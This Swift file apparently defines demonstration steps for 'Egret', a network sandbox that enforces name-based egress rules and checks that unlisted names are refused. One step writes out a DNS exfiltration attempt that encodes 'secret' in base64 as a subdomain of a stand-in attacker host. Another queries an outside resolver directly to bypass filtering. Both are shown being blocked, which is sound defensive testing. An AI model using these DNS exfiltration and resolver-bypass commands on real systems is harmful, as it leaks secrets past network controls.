// Copyright the Egret authors.
// SPDX-License-Identifier: Apache-2.0

private let allowed = ["egret", "run", "--allow", "www.example.test", "--"]
private let fetch = ["curl", "-sS", "--connect-timeout", "2"]

/// Names: what a rule about one lets out, and what it does not.
let nameSteps = [
    DemoStep(
        narration: "A rule can say a name. Egret asks the resolver itself, and opens what the answer says.",
        command: allowed + fetch + ["https://www.example.test/"],
        claims: [
            .exits(0, "curl is content"), .prints("hello from web1"),
            .says("www.example.test (203.0.113.10)", "the report has the name and the address"),
        ]
    ),
    DemoStep(
        narration: "Another site at the same address is another name, and stays closed.",
        command: allowed + fetch
            + ["--connect-to", "web1.example.test:443:www.example.test:443", "https://web1.example.test/"],
        claims: [
            .exits(35, "TLS was refused"), .doesNotPrint("hello from web1", "the site said nothing"),
            .suggests("--allow web1.example.test:443"),
        ]
    ),
    DemoStep(
        narration: "A name that no rule allows is refused at once; whatever it spells out never leaves the host.",
        command: allowed + ["dig", "+noall", "+comments", "c2VjcmV0.attacker.example.test"],
        claims: [
            .prints("REFUSED"), .within(.seconds(4), "without waiting"), .attackerHearsNothing,
            .suggests("--allow c2VjcmV0.attacker.example.test".lowercased()),
        ]
    ),
    DemoStep(
        narration: "Nor can the command choose whom it asks: its question to another server goes to the resolver.",
        command: allowed + ["dig", "+short", "@198.51.100.66", "www.example.test"],
        claims: [.prints("203.0.113.10"), .attackerHearsNothing]
    ),
]
